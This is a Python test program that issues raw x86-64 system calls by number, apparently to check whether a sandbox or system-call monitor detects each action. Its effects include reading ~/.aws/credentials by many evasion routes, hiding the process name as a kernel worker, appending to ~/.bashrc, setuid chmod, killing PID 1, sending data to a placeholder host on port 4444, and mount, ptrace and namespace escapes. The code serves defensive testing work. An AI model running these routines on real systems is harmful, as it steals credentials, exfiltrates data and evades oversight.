"""The raw system call carrier: no libc wrapper, no Python file API, every effect by number through ``syscall(2)``.

Numbers are x86-64's; on another machine the program answers 77 (no such feature). Exit status as in ``tool.c``.
"""

import ctypes
import os
import sys
import time
from collections.abc import Callable

EFFECTS: dict[str, Callable[[], object]] = {}
AT_FDCWD = -100
NR = {
    "read": 0, "write": 1, "open": 2, "sendmsg": 46, "mmap": 9, "socket": 41, "connect": 42, "sendto": 44, "bind": 49,
    "listen": 50, "socketpair": 53, "clone": 56, "fork": 57, "vfork": 58, "execve": 59, "kill": 62, "truncate": 76,
    "chdir": 80, "rename": 82, "mkdir": 83, "creat": 85, "link": 86, "unlink": 87, "symlink": 88, "chmod": 90,
    "fchmod": 91, "chown": 92, "ptrace": 101, "setsid": 112, "utime": 132, "mknod": 133, "prctl": 157, "chroot": 161,
    "mount": 165, "setxattr": 188, "removexattr": 197, "tkill": 200, "openat": 257, "mkdirat": 258, "unlinkat": 263,
    "linkat": 265, "symlinkat": 266, "fchmodat": 268, "unshare": 272, "splice": 275, "utimensat": 280, "fallocate": 285,
    "open_by_handle_at": 304, "setns": 308, "process_vm_readv": 310, "renameat2": 316, "seccomp": 317,
    "memfd_create": 319, "bpf": 321, "execveat": 322, "userfaultfd": 323, "copy_file_range": 326,
    "pidfd_send_signal": 424, "io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430,
    "pidfd_open": 434, "clone3": 435, "openat2": 437, "pidfd_getfd": 438, "mount_setattr": 442, "fchmodat2": 452,
    "setxattrat": 463, "file_setattr": 469, "sendfile": 40, "add_key": 248, "sendmmsg": 307, "exit_group": 231,
}  # fmt: skip

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NOTES = b"private/notes.txt"
VICTIM = b"elsewhere/existing.txt"
PLANTED = b"elsewhere/new.txt"
MESSAGE = b"hello from the tool\n"


class AbsentError(Exception):
    """This kernel has no such call."""


def effect(function: Callable[[], object]) -> Callable[[], object]:
    EFFECTS[function.__name__] = function
    return function


def attempt(name: str, *arguments: object) -> int:
    """One system call by number; returns its result, raises OSError with its errno."""
    words = [ctypes.c_long(argument) if isinstance(argument, int) else argument for argument in arguments]
    result: int = libc.syscall(ctypes.c_long(NR[name]), *words)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"{name}: {os.strerror(number)}")
    return result


def attempt_new(name: str, *arguments: object) -> int:
    """As `attempt`, for a call that older kernels lack."""
    import errno

    try:
        return attempt(name, *arguments)
    except OSError as error:
        if error.errno == errno.ENOSYS:
            raise AbsentError(name) from error
        raise


def home(rest: str) -> bytes:
    return os.fsencode(os.path.join(os.environ.get("HOME", "/home/dev"), rest))


def secret() -> bytes:
    return home(".aws/credentials")


def spill(descriptor: int) -> None:
    block = ctypes.create_string_buffer(4096)
    while attempt("read", descriptor, block, 4096) > 0:
        pass


def put(descriptor: int) -> None:
    attempt("write", descriptor, MESSAGE, len(MESSAGE))


def wait(child: int) -> None:
    if os.waitpid(child, 0x40000000)[1]:  # __WALL
        raise OSError("the child was refused")


def in_child(child: int, act: Callable[[], object]) -> None:
    """Runs `act` where a fork-like call returned 0, and waits for it in the parent."""
    if child == 0:
        try:
            act()
            os._exit(0)
        finally:
            os._exit(10)
    wait(child)


def how(flags: int, mode: int = 0) -> object:
    return (ctypes.c_uint64 * 3)(flags, mode, 0)


@effect
def read_plain() -> None:
    spill(attempt("openat", AT_FDCWD, NOTES, 0, 0))


@effect
def read_secret() -> None:
    spill(attempt("openat", AT_FDCWD, secret(), 0, 0))


@effect
def read_open_syscall() -> None:
    spill(attempt("open", secret(), 0, 0))


@effect
def read_dirfd() -> None:
    spill(attempt("openat", attempt("open", home(".aws"), os.O_DIRECTORY, 0), b"credentials", 0, 0))


@effect
def read_openat2() -> None:
    spill(attempt("openat2", AT_FDCWD, secret(), how(0), 24))


@effect
def read_opath_reopen() -> None:
    handle = attempt("open", secret(), os.O_PATH, 0)
    spill(attempt("open", b"/proc/self/fd/%d" % handle, 0, 0))


@effect
def read_hard_link() -> None:
    attempt("linkat", AT_FDCWD, secret(), AT_FDCWD, home("notes.txt.bak"), 0)
    spill(attempt("open", home("notes.txt.bak"), 0, 0))


@effect
def read_renamed() -> None:
    attempt("renameat2", AT_FDCWD, secret(), AT_FDCWD, home("renamed.txt"), 1)
    spill(attempt("open", home("renamed.txt"), 0, 0))


@effect
def read_symlink() -> None:
    attempt("symlinkat", secret(), AT_FDCWD, b"output/link")
    spill(attempt("open", b"output/link", 0, 0))


@effect
def read_proc_root() -> None:
    spill(attempt("open", b"/proc/self/root" + secret(), 0, 0))


@effect
def read_proc_cwd() -> None:
    attempt("chdir", home(""))
    spill(attempt("open", b"/proc/thread-self/cwd/.aws/credentials", 0, 0))


@effect
def read_chdir() -> None:
    attempt("chdir", home(".aws"))
    spill(attempt("open", b"credentials", 0, 0))


@effect
def read_long_path() -> None:
    spill(attempt("open", b"./" * ((4090 - len(NOTES)) // 2) + NOTES, 0, 0))


@effect
def read_not_utf8() -> None:
    spill(attempt("open", b"private/\xff\xfe.txt", 0, 0))


@effect
def read_mmap() -> None:
    libc.mmap.restype = ctypes.c_void_p
    handle = attempt("open", secret(), 0, 0)
    address = attempt("mmap", 0, 4096, 1, 2, handle, 0)
    ctypes.string_at(address, 1)


@effect
def read_sendfile() -> None:
    source, target = attempt("open", secret(), 0, 0), attempt("creat", b"output/copy", 0o600)
    attempt("sendfile", target, source, 0, 4096)


@effect
def read_copy_file_range() -> None:
    source, target = attempt("open", NOTES, 0, 0), attempt("creat", b"output/copy", 0o600)
    attempt("copy_file_range", source, 0, target, 0, 4096, 0)


@effect
def read_handle_at() -> None:
    handle = (ctypes.c_char * 136)()
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    attempt("open_by_handle_at", attempt("open", b"/", os.O_DIRECTORY, 0), handle, 0)


@effect
def read_io_uring() -> None:
    attempt("io_uring_setup", 2, (ctypes.c_char * 120)())
    spill(attempt("open", secret(), 0, 0))


@effect
def read_fork() -> None:
    in_child(attempt("fork"), read_secret)


@effect
def read_untraced_child() -> None:
    in_child(attempt("clone", 0x00800000 | 17, 0, 0, 0, 0), read_secret)


@effect
def read_clone3() -> None:
    arguments = (ctypes.c_uint64 * 11)()
    arguments[4] = 17
    try:
        child = attempt("clone3", arguments, 88)
    except OSError as error:
        if error.errno != 38:  # ENOSYS: a C library falls back as well
            raise
        child = attempt("fork")
    in_child(child, read_secret)


@effect
def read_dumpable_off() -> None:
    attempt("prctl", 4, 0, 0, 0, 0)
    spill(attempt("open", secret(), 0, 0))


@effect
def read_disguised_name() -> None:
    attempt("prctl", 15, b"kworker/0:1", 0, 0, 0)
    spill(attempt("open", secret(), 0, 0))


@effect
def read_unshared_files() -> None:
    attempt("unshare", 0x400 | 0x200)
    spill(attempt("open", secret(), 0, 0))


@effect
def read_own_filter() -> None:
    program = (ctypes.c_uint64 * 2)()
    rule = ctypes.create_string_buffer(b"\x06\0\0\0\0\0\xff\x7f", 8)
    program[0], program[1] = 1, ctypes.addressof(rule)
    attempt("prctl", 38, 1, 0, 0, 0)
    attempt("seccomp", 1, 0, program)
    spill(attempt("open", secret(), 0, 0))


@effect
def read_own_environ() -> None:
    spill(attempt("open", b"/proc/self/environ", 0, 0))


@effect
def read_init_environ() -> None:
    spill(attempt("open", b"/proc/1/environ", 0, 0))


@effect
def read_machine_id() -> None:
    spill(attempt("open", b"/etc/machine-id", 0, 0))


@effect
def read_status() -> None:
    spill(attempt("open", b"/proc/self/status", 0, 0))


@effect
def write_plain() -> None:
    put(attempt("openat", AT_FDCWD, PLANTED, os.O_WRONLY | os.O_CREAT, 0o644))


@effect
def write_creat_syscall() -> None:
    put(attempt("creat", PLANTED, 0o644))


@effect
def write_openat2() -> None:
    put(attempt("openat2", AT_FDCWD, PLANTED, how(os.O_WRONLY | os.O_CREAT, 0o644), 24))


@effect
def write_tmpfile_linkat() -> None:
    handle = attempt("open", b"elsewhere", os.O_TMPFILE | os.O_WRONLY, 0o644)
    put(handle)
    attempt("linkat", AT_FDCWD, b"/proc/self/fd/%d" % handle, AT_FDCWD, PLANTED, 0x400)


@effect
def write_symlink() -> None:
    attempt("symlink", b"../elsewhere/new.txt", b"output/report.txt")
    put(attempt("open", b"output/report.txt", os.O_WRONLY | os.O_CREAT, 0o644))


@effect
def write_hard_link() -> None:
    attempt("link", VICTIM, b"output/report.txt")
    put(attempt("open", b"output/report.txt", os.O_WRONLY, 0))


@effect
def write_rename_swap() -> None:
    put(attempt("creat", b"output/draft.txt", 0o644))
    attempt("rename", b"output/draft.txt", VICTIM)


@effect
def write_rename_exchange() -> None:
    put(attempt("creat", b"output/draft.txt", 0o644))
    attempt("renameat2", AT_FDCWD, b"output/draft.txt", AT_FDCWD, VICTIM, 2)


@effect
def write_truncate() -> None:
    attempt("truncate", VICTIM, 3)


@effect
def write_fallocate_hole() -> None:
    attempt("fallocate", attempt("open", VICTIM, os.O_RDWR, 0), 3, 0, 4)


@effect
def write_mkdir() -> None:
    attempt("mkdirat", AT_FDCWD, b"elsewhere/deep", 0o755)


@effect
def write_fifo() -> None:
    attempt("mknod", b"elsewhere/pipe", 0o010600, 0)


@effect
def write_symlink_node() -> None:
    attempt("symlink", b"/etc/passwd", b"elsewhere/link")


@effect
def write_untraced_child() -> None:
    in_child(attempt("clone", 0x00800000 | 17, 0, 0, 0, 0), write_plain)


@effect
def persist_shell_rc() -> None:
    put(attempt("open", home(".bashrc"), os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644))


@effect
def tamper_input() -> None:
    put(attempt("open", b"input/data.txt", os.O_WRONLY | os.O_TRUNC, 0))


@effect
def delete_plain() -> None:
    attempt("unlink", NOTES)


@effect
def delete_unlinkat() -> None:
    attempt("unlinkat", AT_FDCWD, NOTES, 0)


@effect
def delete_by_rename() -> None:
    attempt("rename", NOTES, b"output/gone")


@effect
def meta_chmod() -> None:
    attempt("chmod", VICTIM, 0o777)


@effect
def meta_setuid() -> None:
    attempt("fchmodat", AT_FDCWD, VICTIM, 0o4755)


@effect
def meta_fchmod() -> None:
    attempt("fchmod", attempt("open", VICTIM, 0, 0), 0o777)


@effect
def meta_fchmodat2() -> None:
    attempt_new("fchmodat2", AT_FDCWD, VICTIM, 0o777, 0)


@effect
def meta_chown() -> None:
    attempt("chown", VICTIM, os.getuid(), os.getgid())


@effect
def meta_utime() -> None:
    attempt("utime", VICTIM, (ctypes.c_long * 2)(1_000_000_000, 1_000_000_000))


@effect
def meta_utimensat_fd() -> None:
    times = (ctypes.c_long * 4)(1_000_000_000, 0, 1_000_000_000, 0)
    attempt("utimensat", attempt("open", VICTIM, 0, 0), 0, times, 0)


@effect
def meta_setxattr() -> None:
    attempt("setxattr", VICTIM, b"user.origin", b"x", 1, 0)


@effect
def meta_setxattrat() -> None:
    value = ctypes.create_string_buffer(b"x")
    arguments = (ctypes.c_uint64 * 2)(ctypes.addressof(value), 1)
    attempt_new("setxattrat", AT_FDCWD, VICTIM, 0, b"user.origin", arguments, 16)


@effect
def meta_file_setattr() -> None:
    attributes = (ctypes.c_uint32 * 6)(0x80)  # FS_XFLAG_NODUMP
    attempt_new("file_setattr", AT_FDCWD, VICTIM, attributes, 24, 0)


def argv(*words: bytes) -> object:
    return (ctypes.c_char_p * (len(words) + 1))(*words, None)


def environment() -> object:
    return argv(*(os.fsencode(f"{name}={value}") for name, value in os.environ.items()))


@effect
def exec_plain() -> None:
    in_child(attempt("fork"), lambda: attempt("execve", b"/bin/true", argv(b"true"), environment()))


@effect
def exec_execveat() -> None:
    in_child(attempt("fork"), lambda: attempt("execveat", AT_FDCWD, b"/bin/true", argv(b"true"), environment(), 0))


@effect
def exec_empty_path() -> None:
    def start() -> None:
        attempt("execveat", attempt("open", b"/bin/true", os.O_PATH, 0), b"", argv(b"true"), environment(), 0x1000)

    in_child(attempt("fork"), start)


@effect
def exec_memfd() -> None:
    def start() -> None:
        handle, source = attempt("memfd_create", b"libfoo.so", 1), attempt("open", b"/bin/true", 0, 0)
        while attempt("sendfile", handle, source, 0, 1 << 20) > 0:
            pass
        attempt("execveat", handle, b"", argv(b"true"), environment(), 0x1000)

    in_child(attempt("fork"), start)


@effect
def exec_dropped() -> None:
    def start() -> None:
        handle, source = attempt("creat", b"output/helper", 0o755), attempt("open", b"/bin/true", 0, 0)
        while attempt("sendfile", handle, source, 0, 1 << 20) > 0:
            pass
        os.close(handle)
        attempt("execve", b"output/helper", argv(b"true"), environment())

    in_child(attempt("fork"), start)


@effect
def life_daemon() -> None:
    child = attempt("fork")
    if child == 0:
        attempt("setsid")
        if attempt("fork") == 0:
            null = os.open("/dev/null", os.O_RDWR)
            for descriptor in range(3):
                os.dup2(null, descriptor)
            time.sleep(20)
        attempt("exit_group", 0)
    wait(child)


@effect
def life_kill_init() -> None:
    attempt("kill", 1, 9)


@effect
def life_tkill_init() -> None:
    attempt("tkill", 1, 9)


@effect
def life_pidfd_signal() -> None:
    attempt("pidfd_send_signal", attempt("pidfd_open", 1, 0), 9, 0, 0)


def inet(address: str, port: int) -> bytes:
    parts = bytes(int(part) for part in address.split("."))
    return (2).to_bytes(2, "little") + port.to_bytes(2, "big") + parts + bytes(8)


def inet6(address: bytes, port: int) -> bytes:
    return (10).to_bytes(2, "little") + port.to_bytes(2, "big") + bytes(4) + address + bytes(4)


@effect
def net_tcp() -> None:
    handle = attempt("socket", 2, 1, 0)
    attempt("connect", handle, inet("203.0.113.9", 4444), 16)
    put(handle)


@effect
def net_tcp_mapped() -> None:
    handle = attempt("socket", 10, 1, 0)
    attempt("connect", handle, inet6(bytes(10) + b"\xff\xff\xcb\0\x71\x09", 4444), 28)
    put(handle)


@effect
def net_tcp_fast_open() -> None:
    attempt("sendto", attempt("socket", 2, 1, 0), MESSAGE, len(MESSAGE), 0x20000000, inet("203.0.113.9", 4444), 16)


@effect
def net_http() -> None:
    handle = attempt("socket", 2, 1, 0)
    attempt("connect", handle, inet("203.0.113.9", 80), 16)
    request = b"POST /upload HTTP/1.1\r\nHost: collect.test\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello"
    attempt("write", handle, request, len(request))


@effect
def net_udp_sendto() -> None:
    attempt("sendto", attempt("socket", 2, 2, 0), MESSAGE, len(MESSAGE), 0, inet("203.0.113.9", 9999), 16)


@effect
def net_udp_ipv6() -> None:
    address = inet6(bytes.fromhex("20010db8000000000000000000000009"), 9999)
    attempt("sendto", attempt("socket", 10, 2, 0), MESSAGE, len(MESSAGE), 0, address, 28)


@effect
def net_udp_connected_write() -> None:
    handle = attempt("socket", 2, 2, 0)
    attempt("connect", handle, inet("203.0.113.9", 9999), 16)
    put(handle)


@effect
def net_listen() -> None:
    handle = attempt("socket", 2, 1, 0)
    attempt("bind", handle, inet("0.0.0.0", 4444), 16)
    attempt("listen", handle, 1)


@effect
def net_unix_agent() -> None:
    address = b"\1\0/var/run/docker.sock\0"
    attempt("connect", attempt("socket", 1, 1, 0), address, len(address))


@effect
def net_unix_abstract() -> None:
    address = b"\1\0\0/tmp/.X11-unix/X0"
    attempt("connect", attempt("socket", 1, 1, 0), address, len(address))


@effect
def net_raw() -> None:
    attempt("socket", 2, 3, 1)


@effect
def net_packet() -> None:
    attempt("socket", 17, 3, 0x300)


@effect
def net_vsock() -> None:
    attempt("socket", 40, 1, 0)


@effect
def net_alg() -> None:
    attempt("socket", 38, 5, 0)


@effect
def escape_mount() -> None:
    attempt("mount", b"none", b"/mnt", b"tmpfs", 0, 0)


@effect
def escape_fsopen() -> None:
    attempt("fsopen", b"tmpfs", 0)


@effect
def escape_open_tree() -> None:
    attempt("open_tree", AT_FDCWD, b"/", 1)


@effect
def escape_move_mount() -> None:
    attempt("move_mount", AT_FDCWD, b"/", AT_FDCWD, b"/mnt", 0)


@effect
def escape_mount_setattr() -> None:
    attempt("mount_setattr", AT_FDCWD, b"/", 0, (ctypes.c_uint64 * 4)(), 32)


@effect
def escape_chroot() -> None:
    attempt("chroot", b"output")


@effect
def escape_unshare_user() -> None:
    attempt("unshare", 0x10000000)


@effect
def escape_clone_user() -> None:
    in_child(attempt("clone", 0x10000000 | 17, 0, 0, 0, 0), lambda: None)


@effect
def escape_setns() -> None:
    attempt("setns", attempt("open", b"/proc/self/ns/net", 0, 0), 0)


@effect
def escape_ptrace_parent() -> None:
    attempt("ptrace", 16, os.getppid(), 0, 0)


@effect
def escape_vm_readv() -> None:
    block = ctypes.create_string_buffer(16)
    here = (ctypes.c_uint64 * 2)(ctypes.addressof(block), 16)
    there = (ctypes.c_uint64 * 2)(0x400000, 16)
    attempt("process_vm_readv", os.getppid(), here, 1, there, 1, 0)


@effect
def escape_pidfd_getfd() -> None:
    attempt("pidfd_getfd", attempt("pidfd_open", 1, 0), 0, 0)


@effect
def escape_bpf() -> None:
    attempt("bpf", 0, 0, 0)


@effect
def escape_add_key() -> None:
    attempt("add_key", b"user", b"x", b"y", 1, -2)


@effect
def escape_userfaultfd() -> None:
    attempt("userfaultfd", 0)


@effect
def escape_unknown_number() -> None:
    result: int = libc.syscall(ctypes.c_long(2000))
    if result < 0:
        raise OSError(ctypes.get_errno(), "syscall 2000")


@effect
def escape_x32() -> None:
    result: int = libc.syscall(ctypes.c_long(0x40000000 | 39))
    if result < 0:
        raise OSError(ctypes.get_errno(), "x32 getpid")


@effect
def twin_task() -> None:
    block = ctypes.create_string_buffer(4096)
    size = attempt("read", attempt("open", b"input/data.txt", 0, 0), block, 4096)
    attempt("write", attempt("creat", b"output/result.txt.tmp", 0o644), block, size)
    attempt("rename", b"output/result.txt.tmp", b"output/result.txt")


@effect
def twin_child_joined() -> None:
    in_child(attempt("fork"), lambda: None)


def main() -> int:
    if os.uname().machine != "x86_64":
        return 77
    try:
        chosen = EFFECTS[sys.argv[1]]
    except (IndexError, KeyError):
        print("usage: raw.py EFFECT", file=sys.stderr)
        return 64
    try:
        chosen()
    except AbsentError as error:
        print(f"this kernel has no {error}", file=sys.stderr)
        return 77
    except OSError as error:
        print(error, file=sys.stderr)
        return 10
    return 0


if __name__ == "__main__":
    sys.exit(main())
